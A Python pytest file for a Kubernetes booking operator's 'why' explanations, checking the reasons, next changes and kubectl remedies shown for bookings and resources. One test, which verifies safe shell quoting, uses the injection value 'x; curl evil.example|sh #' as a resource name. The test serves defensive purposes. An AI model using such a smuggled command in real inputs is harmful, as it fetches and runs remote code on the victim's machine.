"""Why a Resource or a Booking is in its state: the chain of reasons for each case."""

from typing import Any

import pytest

from booking_operator.client.advice import ADVICE
from booking_operator.client.view import View
from booking_operator.client.why import Explanation, explain_booking, explain_resource
from booking_operator.engine.store import Key
from tests.support.people import (
    NAMESPACE,
    NOW,
    at,
    booking_body,
    condition,
    later,
    resource_body,
    view_of,
    viewer,
)

CAPACITY = "i-8d6f: StartInstances: We currently do not have sufficient capacity."
RETRY = f"{CAPACITY} The next attempt is at 2026-11-24T13:05:00Z."


def lines(explanation: Explanation) -> list[str]:
    """Return the lines that a terminal shows."""
    return [
        f"{explanation.subject}: {explanation.state}",
        *(f"because {text}" for text in explanation.because),
        *(f"but {text}" for text in explanation.but),
        *([f"next {explanation.next}"] if explanation.next else []),
        *(f"do {remedy.text}" for remedy in explanation.do),
    ]


def why_resource(name: str, *bodies: dict[str, Any], user: str = "ada") -> list[str]:
    view = view_of(*bodies).resource(Key(NAMESPACE, name))
    assert view is not None
    return lines(explain_resource(view, viewer(user)))


def why_booking(name: str, *bodies: dict[str, Any], user: str = "ada") -> list[str]:
    return lines(explained_booking(view_of(*bodies), name, user))


def explained_booking(view: View, name: str, user: str = "ada") -> Explanation:
    booking = view.booking(Key(NAMESPACE, name))
    assert booking is not None
    of = view.resource(Key(NAMESPACE, booking.resource_name))
    return explain_booking(booking, of, viewer(user), [item.name for item in view.resources()])


def test_two_bookings_run() -> None:
    assert why_resource(
        "analytics",
        resource_body("analytics", "RUNNING", 2, 2),
        booking_body("office", "analytics", "grace", "09:00", "18:00"),
        booking_body("my-afternoon", "analytics", "ada", "13:00", "17:00"),
    ) == [
        "analytics: RUNNING 2 of 2, as booked",
        "because office (grace) 09:00–18:00 holds the lock; your my-afternoon 13:00–17:00 runs too",
        "next 18:00 stops; 17:00 changes nothing",
    ]


def test_nobody_has_booked_it() -> None:
    assert why_resource(
        "analytics",
        resource_body("analytics", "STOPPED", 0, 2, spec={"warm_up": "2m"}),
        booking_body("morning", "analytics", "grace", "09:00", "12:00"),
        booking_body("office", "analytics", "grace", "25 09:00", "25 18:00"),
    ) == [
        "analytics: STOPPED 0 of 2, as booked",
        "because nobody has booked it; the last booking (grace) ended 12:00",
        "next tomorrow 08:58 starts for office (grace, 09:00, warm_up 2m)",
        "do kubectl booking book analytics --duration 2h",
    ]


def test_no_capacity() -> None:
    assert why_resource(
        "web",
        resource_body(
            "web",
            "STOPPED",
            0,
            1,
            [
                condition("Synced", "False", "InsufficientInstanceCapacity", RETRY, "13:00:01"),
                condition("Ready", "False", "Starting", "0 of 1 instances are running; all are booked."),
            ],
        ),
        booking_body("my-afternoon", "web", "ada", "13:00", "17:00"),
    ) == [
        "web: STOPPED 0 of 1, NOT as booked",
        "because my-afternoon (you) is active since 13:00",
        f'but Synced=False/InsufficientInstanceCapacity since 13:00:01: "{RETRY}"',
        "next 14:05:00 next try; ends 17:00",
        "do wait for capacity, reserve capacity in AWS, or use another instance type or zone",
    ]


def test_the_booking_names_no_resource() -> None:
    missing = "The Resource 'analytic' does not exist in this namespace; create it, or correct resource_name."
    assert why_booking(
        "my-afternoon",
        resource_body("analytics", "STOPPED", 0, 2),
        booking_body(
            "my-afternoon",
            "analytic",
            "ada",
            "13:00",
            "17:00",
            [condition("ResourceFound", "False", "ResourceNotFound", missing)],
        ),
    ) == [
        "booking my-afternoon: active since 13:00, nothing runs for it",
        f'because "{missing}" Did you mean analytics?',
        """do kubectl patch booking my-afternoon --type merge -p '{"spec":{"resource_name":"analytics"}}'""",
    ]


def test_the_operator_is_silent() -> None:
    assert why_resource(
        "analytics",
        resource_body("analytics", "STOPPED", 0, 2, next_change_at="2026-11-24T12:00:00Z"),
        booking_body("my-afternoon", "analytics", "ada", "13:00", "17:00"),
    ) == [
        "analytics: last reported STOPPED 0 of 2; the operator is silent",
        "because status.next_change_at was 13:00:00, 63m ago, and nothing was reported since",
        "do kubectl -n booking-operator-system get lease,pods",
    ]


def test_a_suspension_that_ends_by_itself() -> None:
    message = "Would start i-1, but spec.suspend_until is 2026-11-24T17:00:00Z."
    suspended = condition("Ready", "False", "Suspended", message)
    found = why_resource(
        "analytics",
        resource_body(
            "analytics", "STOPPED", 0, 1, [suspended], spec={"suspend_until": "2026-11-24T17:00:00Z"}
        ),
        booking_body("my-afternoon", "analytics", "ada", "13:00", "20:00"),
    )
    assert found[-2:] == [
        "next nothing starts or stops until 18:00 (spec.suspend_until)",
        """do kubectl patch resource analytics --type merge -p '{"spec":{"suspend_until":""}}'""",
    ]
    over = resource_body("analytics", "STOPPED", 0, 1, spec={"suspend_until": "2026-11-24T13:00:00Z"})
    assert not view_of(over).resources()[0].suspended


def test_an_off_time_stops_what_runs_unbooked() -> None:
    spec = {"unbooked": "Leave", "stop_at": ["0 20 * * *"], "time_zone": "Europe/Berlin"}
    since = [{"id": "i-1", "since": "2026-11-24T10:00:00Z"}]
    web = resource_body("web", "RUNNING", 1, 1, spec=spec, unbooked=since)
    assert why_resource("web", web)[1:3] == [
        "because nobody has booked it, and spec.unbooked is Leave",
        "next 20:00 stops what runs unbooked",
    ]
    evening = booking_body("evening", "web", "grace", "21:00", "22:00")
    assert why_resource("web", web, evening)[2] == (
        "next 20:00 stops what runs unbooked; today 21:00 starts for evening (grace)"
    )
    # A booking that begins before the off time keeps the instances running.
    early = booking_body("early", "web", "grace", "19:00", "22:00")
    assert why_resource("web", web, early)[2] == "next today 19:00 starts for early (grace)"
    assert view_of(web).resources()[0].next_change == (at("20:00"), False)


def test_the_operator_never_reported() -> None:
    body = resource_body("analytics")
    body["status"] = {}
    assert why_resource("analytics", body)[:2] == [
        "analytics: last reported UNKNOWN 0 of 0; the operator is silent",
        "because it was created 23d ago, and the operator has never reported on it",
    ]


def test_a_start_is_on_its_way() -> None:
    assert why_resource(
        "analytics",
        resource_body(
            "analytics",
            "PENDING",
            1,
            2,
            [condition("Ready", "False", "Starting", "1 of 2 instances are running; all are booked.")],
            start_seconds=[37, 41, 39],
        ),
        booking_body("my-afternoon", "analytics", "ada", "14:02", "17:00"),
    ) == [
        "analytics: PENDING 1 of 2, starting (past starts: 37–41s)",
        "because your my-afternoon 14:02–17:00 holds the lock",
        "next 17:00 stops",
    ]


def test_suspended_says_who_may_change_it() -> None:
    message = "Would start i-1, but spec.suspend is true."
    view = view_of(
        resource_body(
            "analytics",
            "STOPPED",
            0,
            1,
            [condition("Ready", "False", "Suspended", message)],
            spec={"suspend": True},
        ),
        booking_body("my-afternoon", "analytics", "ada", "13:00", "17:00"),
    ).resource(Key(NAMESPACE, "analytics"))
    assert view is not None
    explanation = explain_resource(view, viewer())
    assert lines(explanation)[2:] == [
        f'but Ready=False/Suspended since 13:00:00: "{message}"',
        "next nothing starts or stops while spec.suspend is true",
        """do kubectl patch resource analytics --type merge -p '{"spec":{"suspend":false}}'""",
    ]
    permission = explanation.do[0].permission
    assert permission is not None
    assert permission.role == "booking-operator-admin"


def test_request_limits_name_the_warm_up() -> None:
    message = (
        "Because of the request limits of the cloud, the last instance is started at "
        "2026-11-24T12:08:20Z, 8m20s after 2026-11-24T12:00:00Z. To start all instances on time, "
        "set spec.warm_up: 9m on the Resource."
    )
    explained = why_resource(
        "analytics",
        resource_body("analytics", "RUNNING", 2, 2, [condition("Delayed", "True", "RequestLimits", message)]),
        booking_body("my-afternoon", "analytics", "ada", "13:00", "17:00"),
    )
    assert explained[0] == "analytics: RUNNING 2 of 2, as booked"
    assert """do kubectl patch resource analytics --type merge -p '{"spec":{"warm_up":"9m"}}'""" in explained


@pytest.mark.parametrize(
    ("reason", "message"),
    [
        ("Blocked", "i-1 is a member of an Auto Scaling group."),
        ("StopWithheld", "i-1 would be stopped, but the bookings have not been listed yet."),
        ("LaunchGrace", "Not booked, but launched less than spec.launch_grace (10m) ago: i-1."),
    ],
)
def test_a_stop_that_waits_is_not_as_booked(reason: str, message: str) -> None:
    explained = why_resource(
        "analytics",
        resource_body("analytics", "RUNNING", 1, 1, [condition("Ready", "False", reason, message)]),
    )
    assert explained[:3] == [
        "analytics: RUNNING 1 of 1, NOT as booked",
        "because nobody has booked it",
        f'but Ready=False/{reason} since 13:00:00: "{message}"',
    ]


def test_a_warning_does_not_change_the_verdict() -> None:
    explained = why_resource(
        "analytics",
        resource_body(
            "analytics",
            "STOPPED",
            0,
            1,
            [condition("Synced", "True", "LockTagsInvalid", "i-1 has odd tags.")],
        ),
    )
    assert explained[0] == "analytics: STOPPED 0 of 1, as booked"
    assert explained[2] == 'but Synced=True/LockTagsInvalid since 13:00:00: "i-1 has odd tags."'


def test_instances_that_are_left_running_are_as_booked() -> None:
    explained = why_resource(
        "analytics", resource_body("analytics", "RUNNING", 1, 1, spec={"unbooked": "Leave"})
    )
    assert explained[:2] == [
        "analytics: RUNNING 1 of 1, as booked",
        "because nobody has booked it, and spec.unbooked is Leave",
    ]


def test_commands_name_another_namespace() -> None:
    view = view_of(resource_body("analytics", "STOPPED", 0, 1)).resource(Key(NAMESPACE, "analytics"))
    assert view is not None
    elsewhere = viewer()
    assert explain_resource(view, elsewhere).do[0].text.endswith("--duration 2h")
    moved = type(elsewhere)(elsewhere.user, elsewhere.now, elsewhere.zone, "default")
    assert explain_resource(view, moved).do[0].text.endswith("--duration 2h -n team-a")


def test_a_hostile_name_is_quoted_in_commands() -> None:
    explained = why_booking(
        "morning", booking_body("morning", "x; curl evil.example|sh #", "ada", "09:00", "12:00")
    )
    assert explained[-1] == "do kubectl booking book 'x; curl evil.example|sh #' --duration 1h"


def test_many_bookings_are_summarized() -> None:
    bodies = [booking_body(f"b{number}", "analytics", f"u{number}", "09:00", "18:00") for number in range(6)]
    because = why_resource("analytics", resource_body("analytics", "RUNNING", 2, 2), *bodies)[1]
    assert because.startswith("because b0 (u0) 09:00–18:00 holds the lock; b1 (u1) 09:00–18:00 runs too")
    assert because.endswith("; 2 more run too")


class TestBooking:
    """Why a Booking is in its state."""

    def test_it_is_scheduled(self) -> None:
        assert why_booking(
            "office",
            resource_body("analytics", "STOPPED", 0, 2, spec={"warm_up": "2m"}),
            booking_body("office", "analytics", "grace", "25 09:00", "25 18:00"),
            booking_body("late", "analytics", "ada", "25 17:00", "25 20:00"),
        ) == [
            "booking office: begins tomorrow 09:00",
            "because it books analytics Wed 25 Nov 09:00–18:00 CET",
            (
                "next tomorrow 08:58 instances start; tomorrow 09:00 begins; tomorrow 18:00 ends, and the "
                "instances run on for late (you)"
            ),
        ]

    def test_it_runs(self) -> None:
        assert why_booking(
            "my-afternoon",
            resource_body("analytics", "RUNNING", 2, 2),
            booking_body("my-afternoon", "analytics", "ada", "13:00", "17:00"),
        ) == [
            "booking my-afternoon: active since 13:00, 2 of 2 run for it",
            "because your my-afternoon 13:00–17:00 holds the lock",
            "next 17:00 ends, and the instances stop",
        ]

    def test_it_has_ended(self) -> None:
        assert why_booking(
            "morning",
            resource_body("analytics", "STOPPED", 0, 2),
            booking_body("morning", "analytics", "ada", "09:00", "12:00"),
        ) == [
            "booking morning: ended 12:00",
            "because it booked analytics 09:00–12:00",
            "do kubectl booking book analytics --duration 1h",
        ]

    def test_it_is_invalid(self) -> None:
        body = booking_body("odd", "analytics", "ada", "13:00", "17:00")
        body["spec"]["end_at"] = body["spec"]["start_at"]
        explained = why_booking("odd", resource_body("analytics", "STOPPED", 0, 2), body)
        assert explained[0] == "booking odd: invalid, so it books nothing"
        assert "must be later than start_at" in explained[1]
        assert explained[2] == "do kubectl edit booking odd"

    def test_the_operator_has_not_reported_it(self) -> None:
        explained = why_booking(
            "new",
            resource_body("analytics", "STOPPED", 0, 2),
            booking_body("new", "analytics", "ada", "13:00", "17:00", observed=False),
        )
        assert explained == [
            "booking new: last reported nothing; the operator is silent",
            "because the status does not say IN PROGRESS, as it should since a minute or longer",
            "do kubectl -n booking-operator-system get lease,pods",
        ]

    def test_a_problem_of_its_resource_is_its_problem(self) -> None:
        explained = explained_booking(
            view_of(
                resource_body(
                    "web",
                    "STOPPED",
                    0,
                    1,
                    [condition("Synced", "False", "InsufficientInstanceCapacity", RETRY)],
                ),
                booking_body("my-afternoon", "web", "ada", "13:00", "17:00"),
            ),
            "my-afternoon",
        )
        assert explained.state == "active since 13:00, nothing runs for it"
        assert not explained.as_booked
        assert "InsufficientInstanceCapacity" in explained.but[0]


@pytest.mark.parametrize("reason", sorted(ADVICE))
def test_each_reason_is_explained(reason: str) -> None:
    """Each reason of the product leads to an explanation that quotes its message and says what to do."""
    fine = not ADVICE[reason].text and not (
        ADVICE[reason].patch or ADVICE[reason].delete or ADVICE[reason].edit
    )
    type_ = "Ready" if reason in {"Starting", "Stopping"} else "Synced"
    explained = why_resource(
        "analytics",
        resource_body("analytics", "PENDING", 0, 1, [condition(type_, "False", reason, "The message.")]),
        booking_body("my-afternoon", "analytics", "ada", "13:00", "17:00"),
    )
    if reason in {"Starting", "Stopping"}:
        assert explained[0] == "analytics: PENDING 0 of 1, starting"
        return
    assert any(f'/{reason} since 13:00:00: "The message."' in line for line in explained)
    assert fine or any(line.startswith("do ") for line in explained)


def test_the_present_time_decides_what_is_silent() -> None:
    view = view_of(
        resource_body("analytics", "STOPPED", 0, 2, next_change_at="2026-11-24T13:02:30Z"), now=NOW
    ).resource(Key(NAMESPACE, "analytics"))
    assert view is not None
    assert view.silent_since is None
    assert (
        view_of(
            resource_body("analytics", "STOPPED", 0, 2, next_change_at="2026-11-24T13:02:30Z"),
            now=later(seconds=31),
        )
        .resources()[0]
        .silent_since
    )
